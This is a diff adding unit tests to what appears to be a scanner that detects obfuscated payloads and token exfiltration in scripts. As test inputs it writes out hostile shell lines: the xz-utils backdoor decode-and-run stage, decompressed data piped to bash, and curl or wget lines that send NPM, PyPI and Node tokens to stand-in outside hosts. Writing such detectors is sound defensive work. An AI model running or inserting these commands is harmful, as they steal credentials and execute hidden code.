@@ -781,6 +781,15 @@ describe('obfuscated-code in shell scripts: decoded text piped into an interpret
     expect(ids('scripts/setup.sh', ['base64 -d payload.b64 > ./helper', 'sh ./helper'])).toEqual(['high:12']);
     expect(ids('scripts/setup.sh', ['base64 -d payload.b64 > helper.py', 'python3 helper.py'])).toEqual(['high:12']);
   });
+  it('reports data unpacked or deciphered and run as code on one line (the xz-utils test-file stage, CVE-2024-3094)', () => {
+    expect(ids('tests/run.sh', ['cat tests/files/good-large.lzma | tr "\\5-\\51\\204-\\377" "\\0-\\377" | xz -F raw --lzma1 -dc | /bin/sh'])).toEqual(['high:11']);
+    expect(ids('tests/run.sh', ['eval "$(gzip -dc tests/data/fixture.gz)"'])).toEqual(['high:11']);
+    expect(ids('scripts/setup.sh', ['zstd -dc stage.zst | bash -s -- --quiet'])).toEqual(['high:11']);
+  });
+  it('is quiet on data unpacked into a file, a database or an archive tool, and on an interpreter fed a plain file', () => {
+    expect(ids('scripts/restore.sh', ['gunzip -c dump.sql.gz | psql "$DATABASE_URL"', 'xz -dc rootfs.img.xz | dd of=disk.img bs=4M', 'zcat data.csv.gz > data.csv'])).toEqual([]);
+    expect(ids('scripts/setup.sh', ['tar -xzf tools.tgz -C vendor && sh vendor/install.sh', 'tr -d "\\r" < win.sh | sh', 'eval "$(ssh-agent -s)"'])).toEqual([]);
+  });
   it('is quiet on a secret decoded into a file or an archive unpacked, and on a download piped to a shell without a decode', () => {
     expect(ids('scripts/ci-keys.sh', ['echo "$SIGNING_KEY" | base64 -d > signing.key', 'base64 -d < bundle.b64 | tar xz -C vendor'])).toEqual([]);
     // A keystore decoded to a file and given to a tool that reads it runs nothing of it.
@@ -3453,6 +3462,16 @@ describe('suspicious-network-endpoint: a secret read from the environment and po
     // A GET carries what its URL does: the secret in a query string.
     expect(sent('src/Boot.php', ['    @file_get_contents("https://php-metrics.io/b?k=" . getenv("AWS_SECRET_ACCESS_KEY"));'])?.severity).toBe('high');
     expect(sent('pkg/ping.py', ['requests.get(f"https://collect.telemetry-hub.dev/p?t={os.environ[\'PYPI_API_TOKEN\']}", timeout=2)'])?.severity).toBe('high');
+  });
+  it('reads a shell script too: a registry or product token on a curl or wget line, as data or in the URL, to another host', () => {
+    expect(sent('scripts/notify.sh', ['curl -s -X POST https://stats.pkg-insights.dev/publish -d "{\\"k\\":\\"$NODE_AUTH_TOKEN\\"}"'])?.severity).toBe('high');
+    expect(sent('scripts/notify.sh', ['wget -q --post-data "t=${NPM_TOKEN}" https://metrics.build-insights.net/c'])?.severity).toBe('high');
+    expect(sent('scripts/ping.sh', ['curl -fsS "https://hooks.release-notify.dev/v1?t=$PYPI_API_TOKEN" >/dev/null'])?.severity).toBe('high');
+  });
+  it('is quiet on a shell line that gives a token to its own service, as a header or user, a URL it does not show, or a secret read on another line', () => {
+    expect(sent('scripts/upload.sh', ['curl -s https://codecov.io/upload -d "token=$CODECOV_TOKEN"', 'curl -F "token=$SONAR_TOKEN" https://sonarcloud.io/api/ce/submit'])).toBeUndefined();
+    expect(sent('scripts/release.sh', ['curl -H "Authorization: token $GITHUB_TOKEN" -d @notes.json https://api.acme-release.dev/v1', 'curl -u "$NEXUS_USER:$NEXUS_PASSWORD" -T app.zip https://nexus.acme.dev/repository/raw/'])).toBeUndefined();
+    expect(sent('scripts/notify.sh', ['curl -X POST -d "{\\"text\\":\\"deployed\\"}" "$SLACK_WEBHOOK_URL"', 'export NPM_TOKEN="$NPM_TOKEN"', 'curl -d @payload.json https://api.acme-status.dev/release'])).toBeUndefined();
   });
   it('is quiet on a GET that takes its own service\'s key in the query string', () => {
     expect(sent('pkg/weather.py', ['r = requests.get(f"https://api.openweathermap.org/data/2.5/weather?q={city}&appid={os.environ[\'OPENWEATHERMAP_API_KEY\']}")'])).toBeUndefined();
